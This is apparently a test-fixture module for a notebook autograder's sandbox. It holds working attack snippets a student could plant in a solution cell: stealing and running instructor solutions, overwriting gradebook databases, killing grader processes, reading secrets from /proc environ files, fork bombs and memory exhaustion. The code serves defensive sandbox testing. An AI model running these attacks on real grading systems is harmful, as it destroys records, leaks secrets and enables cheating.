"""What a student who knows Python might put in a solution cell at grading time, one attack each.

Each attack is code that runs before the (plainly wrong) answer in the first
solution cell.  It prints what it achieved after the marker ``ATTACK:``, so the
tests can read, in the autograded notebook, what the code saw; the tests then
check the machine itself (the gradebook, the course folder, the grader's
processes and ports) rather than trusting the attack's own report.

``{port}``, ``{secret_name}`` and ``{marker}`` are filled in by the test: a
port the grader listens on, an environment variable only the grader has, and
a file name that must appear nowhere outside the box.
"""

_WALK_UP = '''
def _parents():
    here = os.path.abspath(os.getcwd())
    out = []
    while True:
        out.append(here)
        up = os.path.dirname(here)
        if up == here:
            return out
        here = up
'''

ATTACKS = {
    # finds the instructor's source notebook and runs its solution cell: full marks if it works
    "steal_solution": '''
import glob, json, os
''' + _WALK_UP + '''
_found = []
for _base in _parents():
    _found += glob.glob(os.path.join(_base, "source", "*", "*.ipynb"))
for _base in (os.path.expanduser("~"), "/tmp", "/home", "/srv", "/root"):
    _found += glob.glob(os.path.join(_base, "**", "source", "*", "*.ipynb"), recursive=True)[:50]
print("ATTACK: found", len(_found), "source notebooks")
_stolen = 0
for _path in _found:
    try:
        _nb = json.load(open(_path))
    except (OSError, ValueError):
        continue
    for _cell in _nb.get("cells", []):
        _meta = _cell.get("metadata", {}).get("nbgrader", {})
        if _meta.get("solution") and _cell.get("cell_type") == "code":
            _stolen += 1
            _STOLEN_CELLS = globals().setdefault("_STOLEN_CELLS", [])
            _STOLEN_CELLS.append("".join(_cell["source"]))
print("ATTACK: stole", _stolen, "solution cells")
''',
    # every *.db in the folders above the working directory, and in the usual places, overwritten
    "destroy_gradebook": '''
import glob, os
''' + _WALK_UP + '''
_hit = []
for _base in _parents() + ["/srv", "/home", "/tmp", os.path.expanduser("~")]:
    for _path in glob.glob(os.path.join(_base, "*.db")) + glob.glob(os.path.join(_base, "*", "*.db")):
        try:
            with open(_path, "wb") as _f:
                _f.write(b"gone " * 1000)
            _hit.append(_path)
        except OSError:
            pass
print("ATTACK: overwrote", _hit)
''',
    # SIGKILL to every ancestor, to every process it can see, and to every process at all
    "kill_grader": '''
import os, signal
_killed = []
_pid = os.getppid()
while _pid > 1:
    try:
        _next = int(open(f"/proc/{_pid}/stat").read().rsplit(")", 1)[1].split()[1])
        os.kill(_pid, signal.SIGKILL)
        _killed.append(_pid)
    except (OSError, ValueError, IndexError):
        break
    _pid = _next
for _name in os.listdir("/proc"):
    if _name.isdigit() and int(_name) not in (os.getpid(), 1):
        try:
            _cmd = open(f"/proc/{_name}/cmdline", "rb").read()
            if b"nbgrader" in _cmd or b"classgrade" in _cmd or b"pytest" in _cmd:
                os.kill(int(_name), signal.SIGKILL)
                _killed.append(int(_name))
        except OSError:
            pass
print("ATTACK: killed", _killed)
''',
    # a file written into the course root (the folder above with nbgrader's files), /tmp and home
    "write_course_root": '''
import os
''' + _WALK_UP + '''
_written = []
_roots = [p for p in _parents() if os.path.exists(os.path.join(p, "nbgrader_config.py"))]
for _base in _roots + ["/tmp", "/srv", "/home", os.path.expanduser("~")]:
    try:
        with open(os.path.join(_base, "{marker}"), "w") as _f:
            _f.write("was here")
        _written.append(_base)
    except OSError:
        pass
print("ATTACK: wrote into", _written)
''',
    # a connection to a port the grader listens on, on the loopback
    "loopback_port": '''
import socket
try:
    _s = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    _s.sendall(b"hello from the sandbox")
    _s.close()
    print("ATTACK: connected to the grader's port {port}")
except OSError as _err:
    print("ATTACK: no connection:", _err)
''',
    # the grader's environment, directly and through /proc
    "read_environment": '''
import os
# every value seen, not the last: without a box the attack also sees other graders' processes on the machine
_seen = {os.environ["{secret_name}"]} if "{secret_name}" in os.environ else set()
for _name in os.listdir("/proc"):
    if _name.isdigit():
        try:
            _env = open(f"/proc/{_name}/environ", "rb").read()
        except OSError:
            continue
        if b"{secret_name}=" in _env:
            _seen.add(_env.split(b"{secret_name}=")[1].split(b"\\0")[0].decode())
print("ATTACK: the grader's secret is", " ".join(sorted(_seen)) or None)
''',
    # as many processes as it can make, each staying alive
    "fork_flood": '''
import os, time
_kids = 0
for _ in range(5000):
    try:
        if os.fork() == 0:
            while True:
                time.sleep(1)
        _kids += 1
    except OSError:
        break
print("ATTACK: forked", _kids, "processes")
''',
    # memory until it runs out, in this process and in a tmpfs
    "memory_hog": '''
_hog = []
try:
    while True:
        _hog.append(bytearray(256 * 1024 * 1024))
except MemoryError:
    print("ATTACK: MemoryError after", len(_hog) * 256, "MB")
del _hog
_n = 0
try:
    with open("/tmp/fill", "wb") as _f:
        while _n < 64 * 1024:
            _f.write(b"x" * 1024 * 1024)
            _n += 1
except OSError as _err:
    print("ATTACK: /tmp full after", _n, "MB:", _err.strerror)
''',
    # a 2 GB file in the working directory
    "big_file": '''
_n = 0
try:
    with open("big.bin", "wb") as _f:
        for _ in range(2048):
            _f.write(b"x" * 1024 * 1024)
            _n += 1
    print("ATTACK: wrote", _n, "MB")
except OSError as _err:
    print("ATTACK: stopped after", _n, "MB:", _err.strerror)
''',
    # what the code can see of the file system, printed for the test to read
    "report_filesystem": '''
import json, os
''' + _WALK_UP + '''
_seen = []
for _base in _parents():   # what lies around the working directory first, then everything from /
    _seen += [os.path.join(_base, f) for f in sorted(os.listdir(_base))][:200]
for _root, _dirs, _files in os.walk("/"):
    _dirs[:] = [d for d in _dirs if os.path.join(_root, d) not in ("/proc", "/sys", "/dev", "/usr")
                and "site-packages" not in _root and "/lib/python" not in _root]
    _seen.append(_root)
    _seen += [os.path.join(_root, f) for f in _files][:50]
    if len(_seen) > 5000:
        break
print("ATTACK: sees", json.dumps(_seen))
print("ATTACK: environment", json.dumps(sorted(os.environ)))
''',
}

# After the attack, the steal attack replaces the wrong answer with the stolen solution cells.
USE_STOLEN = '''
for _source in globals().get("_STOLEN_CELLS", []):
    exec(_source, globals())
'''


def attack_source(name, wrong_answer, **values):
    """The solution cell of a student who runs the named attack, then answers wrongly."""
    code = ATTACKS[name]
    for key, value in values.items():
        code = code.replace("{" + key + "}", str(value))
    tail = USE_STOLEN if name == "steal_solution" else ""
    return code + "\n" + wrong_answer + "\n" + tail
